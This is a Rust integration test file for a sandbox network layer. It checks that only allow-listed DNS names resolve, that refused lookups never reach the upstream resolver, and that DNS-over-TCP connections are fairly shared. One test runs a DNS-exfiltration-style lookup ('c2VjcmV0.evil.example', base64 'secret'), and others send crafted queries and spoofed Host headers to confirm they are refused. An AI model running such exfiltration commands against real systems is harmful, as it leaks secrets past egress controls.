//! Names, from inside a real sandbox with the resolver it was given.

use std::fs::File;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpStream, UdpSocket};
use std::os::fd::AsFd;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Mutex, PoisonError};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use cove_model::{SandboxId, SandboxSpec};
use cove_protocol::client::Guest;
use cove_runner_api::{CreateRequest, EgressProtocol, EgressVerdict, RunnerApi, SandboxOwner};
use cove_tests::engine_host::{exec, output, small_spec};
use rustix::thread::{LinkNameSpaceType, move_into_link_name_space};

use crate::stage::*;
use crate::world::*;

pub const RESOLVER: Ipv4Addr = OTHER_PUBLIC;
pub const DNS: u16 = 53;
/// Where every sandbox asks.
const GATEWAY: Ipv4Addr = Ipv4Addr::new(198, 19, 0, 1);
const WEB: u16 = 80;

/// The internet's resolver: knows a few names and remembers what it was asked.
pub struct Resolver {
    asked: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Resolver {
    pub fn serve(internet: &Namespace) -> Self {
        let socket = internet.enter(|| UdpSocket::bind((RESOLVER, DNS)).expect("the port is free"));
        socket
            .set_read_timeout(Some(SILENCE))
            .expect("a timeout can be set");
        let (asked, stop) = (
            Arc::<Mutex<Vec<String>>>::default(),
            Arc::<AtomicBool>::default(),
        );
        let (heard, ended) = (Arc::clone(&asked), Arc::clone(&stop));
        let thread = std::thread::spawn(move || {
            let mut buffer = [0; 1500];
            while !ended.load(Ordering::Acquire) {
                let Ok((read, peer)) = socket.recv_from(&mut buffer) else {
                    continue;
                };
                if let Some((name, reply)) = answer(&buffer[..read]) {
                    heard
                        .lock()
                        .unwrap_or_else(PoisonError::into_inner)
                        .push(name);
                    let _ = socket.send_to(&reply, peer);
                }
            }
        });
        Self {
            asked,
            stop,
            thread: Some(thread),
        }
    }

    fn heard(&self, part: &str) -> bool {
        let asked = self.asked.lock().unwrap_or_else(PoisonError::into_inner);
        asked.iter().any(|name| name.contains(part))
    }
}

impl Drop for Resolver {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Release);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// One question, one address or none.
fn answer(question: &[u8]) -> Option<(String, Vec<u8>)> {
    let mut at = 12;
    let mut labels = Vec::new();
    loop {
        let length = usize::from(*question.get(at)?);
        at += 1;
        if length == 0 {
            break;
        }
        labels.push(String::from_utf8_lossy(question.get(at..at + length)?).to_lowercase());
        at += length;
    }
    let end = at + 4;
    let address = question.get(at + 1).filter(|kind| **kind == 1).and({
        match labels.join(".").as_str() {
            "good.example" | "evil.example" | "www.good.example" => Some(PUBLIC),
            "inside.example" => Some(PRIVATE),
            _ => None,
        }
    });
    let mut reply = question.get(..end)?.to_vec();
    // An answer, recursion available; no such name where there is no address.
    reply[2] = 0x81;
    reply[3] = if address.is_some() { 0x80 } else { 0x83 };
    reply[6..12].fill(0);
    if let Some(address) = address {
        reply[7] = 1;
        reply.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
        reply.extend(address.octets());
    }
    Some((labels.join("."), reply))
}

async fn stage() -> (Stage, Resolver, Servers) {
    let stage = Stage::with(|setup| setup.resolver = Some((RESOLVER, DNS).into())).await;
    let resolver = Resolver::serve(&stage.world.internet);
    let web = Servers::web(&stage.world.internet, WEB);
    (stage, resolver, web)
}

/// What a command says when it must be refused, and not left to wait until it gives up.
async fn refusal(guest: &Guest, command: &str) -> String {
    let result = exec(guest, command).await;
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    let said = text(&result.stdout) + &text(&result.stderr);
    assert_ne!(result.exit.code, 0, "'{command}' worked: {said}");
    assert!(!said.contains("timed out"), "'{command}': {said}");
    said
}

/// Asks for the address of `NAME.example`, four letters before the dot, in a stream; the answer in hex.
fn over_tcp(name: &str) -> String {
    let question = format!(
        "\\000\\036\\022\\064\\001\\000\\000\\001\\000\\000\\000\\000\\000\\000\\004{name}\\007example\\000\\000\\001\\000\\001"
    );
    format!("printf '{question}' | nc -w 20 198.19.0.1 53 | xxd -p | tr -d '\\n'")
}

#[tokio::test(flavor = "multi_thread")]
async fn allowed_names_resolve_and_connect_and_refused_ones_say_so_at_once() {
    let (stage, resolver, _web) = stage().await;
    let allowed = ["good.example", "good.example:7", "inside.example"];
    let (id, guest) = stage.sandbox(listed(&allowed)).await;
    let conf = output(&guest, "cat /etc/resolv.conf").await;
    assert!(conf.starts_with("nameserver 198.19.0.1"), "{conf}");
    // On the web's port by its name, on another by its address, which the answer has.
    let page = output(&guest, "wget -q -O - http://good.example/page").await;
    assert_eq!(page, "for good.example at 1.2.3.4");
    let said = output(&guest, "echo hello | nc -w 20 good.example 7").await;
    assert_eq!(said, format!("{HOST} hello"));
    let line = stage
        .logged(&id, |entry| {
            entry.protocol == EgressProtocol::Dns && entry.name.as_deref() == Some("good.example")
        })
        .await;
    assert_eq!(line.verdict, EgressVerdict::Allowed);

    // A name that is not listed: the resolver refuses, and nobody outside hears of it.
    let said = refusal(&guest, "nslookup evil.example").await;
    assert!(said.contains("REFUSED"), "{said}");
    let said = refusal(&guest, "wget -q -O - http://evil.example/").await;
    assert!(said.contains("bad address"), "{said}");
    refusal(&guest, "nslookup www.good.example").await;
    refusal(&guest, "nslookup c2VjcmV0.evil.example").await;
    assert!(!resolver.heard("evil") && !resolver.heard("www"));
    // Over TCP the answers are the same.
    let found = output(&guest, &over_tcp("good")).await;
    assert!(found.contains("01020304"), "{found}");
    let refused = output(&guest, &over_tcp("evil")).await;
    assert!(
        !refused.is_empty() && !refused.contains("01020304"),
        "{refused}"
    );
    assert!(!resolver.heard("evil"));
    // A listed name that leads inwards is not followed there.
    let said = refusal(&guest, "nslookup inside.example").await;
    assert!(said.contains("REFUSED"), "{said}");
    assert!(resolver.heard("inside.example"));
    // Past the resolver, the gateway answers in words.
    let request = "GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n";
    let answer = output(
        &guest,
        &format!("printf '{request}' | nc -w 20 {PUBLIC} 80"),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 403 "), "{answer}");
    assert!(
        answer.contains("evil.example") && answer.contains("not in the allow list"),
        "{answer}"
    );
    let said = refusal(
        &guest,
        &format!("wget -q -O - --header 'Host: evil.example' http://{PUBLIC}/"),
    )
    .await;
    assert!(said.contains("403"), "{said}");
    let line = stage
        .logged(&id, |entry| {
            entry.protocol == EgressProtocol::Dns && entry.name.as_deref() == Some("evil.example")
        })
        .await;
    assert_eq!(line.verdict, EgressVerdict::Denied);

    // A name that becomes listed is there with the change, and gone with the next.
    let client = stage.engine.client();
    client
        .set_network(&id, listed(&["evil.example"]))
        .await
        .expect("a change");
    let page = output(&guest, "wget -q -O - http://evil.example/").await;
    assert_eq!(page, "for evil.example at 1.2.3.4");
    refusal(&guest, "wget -q -O - http://good.example/").await;
    client
        .set_network(&id, listed(&[]))
        .await
        .expect("a change");
    refusal(&guest, "wget -q -O - http://evil.example/").await;
    stage.finish();
}

#[tokio::test(flavor = "multi_thread")]
async fn an_open_sandbox_resolves_every_name_and_one_without_a_network_none() {
    let (stage, resolver, _web) = stage().await;
    let (_, open) = stage.sandbox(mode(cove_model::NetworkMode::Open)).await;
    let page = output(&open, "wget -q -O - http://www.good.example/").await;
    assert_eq!(page, "for www.good.example at 1.2.3.4");
    let said = refusal(&open, "nslookup inside.example").await;
    assert!(said.contains("REFUSED"), "{said}");
    let (_, none) = stage.sandbox(mode(cove_model::NetworkMode::None)).await;
    refusal(&none, "wget -q -O - http://good.example/").await;
    assert!(
        !resolver.heard("/")
            && !resolver
                .asked
                .lock()
                .expect("held")
                .contains(&"good.example".to_owned())
    );
    stage.finish();
}

/// The gateway closes a connection that asks nothing for longer; a little less.
const STREAM_IDLE: Duration = Duration::from_secs(9);
/// DNS connections over TCP of one sandbox, and those that one organisation has while no other has any: half of all.
const STREAMS_OF_ONE: usize = 16;
const STREAMS_OF_ORG: usize = 512;

/// Connections to the resolver from the network of a process, each after its first answer: so many, or as many as it
/// gets.
fn streams(pid: i32, most: usize) -> Vec<TcpStream> {
    let network = File::open(format!("/proc/{pid}/ns/net")).expect("it runs");
    let open = || {
        let mut stream = TcpStream::connect((GATEWAY, DNS)).ok()?;
        stream.set_read_timeout(Some(PATIENCE)).ok()?;
        stream.write_all(&framed("good")).ok()?;
        stream.read_exact(&mut [0; 2]).ok()?;
        Some(stream)
    };
    std::thread::scope(|scope| {
        let inside = scope.spawn(|| {
            move_into_link_name_space(network.as_fd(), Some(LinkNameSpaceType::Network))
                .expect("root may enter");
            std::iter::from_fn(open).take(most).collect()
        });
        inside.join().expect("no panic inside")
    })
}

/// A question for the address of `NAME.example`, four letters before the dot, as a stream has it.
fn framed(name: &str) -> Vec<u8> {
    let head = [0, 30, 18, 52, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 4];
    let tail = b"\x07example\0\0\x01\0\x01";
    [&head[..], name.as_bytes(), tail].concat()
}

#[tokio::test(flavor = "multi_thread")]
async fn an_organisation_with_many_sandboxes_leaves_dns_connections_to_others() {
    let (stage, _resolver, _web) = stage().await;
    let owned = async |org: &str| {
        let owner = SandboxOwner {
            org: org.into(),
            home: false,
        };
        let request = CreateRequest {
            owner: Some(owner),
            id: SandboxId::random(),
            spec: SandboxSpec {
                network: listed(&["good.example"]),
                ..small_spec()
            },
            from: None,
        };
        stage.start(request).await.1
    };
    // One more than its share fills.
    let mut greedy = Vec::new();
    for _ in 0..=STREAMS_OF_ORG / STREAMS_OF_ONE {
        greedy.push(owned("org_greedy").await);
    }
    let other = owned("org_other").await;
    let deadline = Instant::now() + 10 * PATIENCE;
    // Again when the machine was so slow that the first ones were closed meanwhile, or those of the last time were not.
    loop {
        let begun = Instant::now();
        // All at once, so that a busy machine has to be quick only once.
        let held: Vec<TcpStream> = std::thread::scope(|scope| {
            let opening: Vec<_> = greedy
                .iter()
                .map(|pid| scope.spawn(move || streams(*pid, STREAMS_OF_ONE)))
                .collect();
            let opened = opening.into_iter().map(|it| it.join().expect("no panic"));
            opened.flatten().collect()
        });
        let beside = streams(other, STREAMS_OF_ONE);
        if begun.elapsed() < STREAM_IDLE {
            assert!(held.len() <= STREAMS_OF_ORG, "{}", held.len());
            if held.len() == STREAMS_OF_ORG {
                assert_eq!(beside.len(), STREAMS_OF_ONE);
                break;
            }
        }
        assert!(Instant::now() < deadline, "it never was quick enough");
    }
    stage.finish();
}
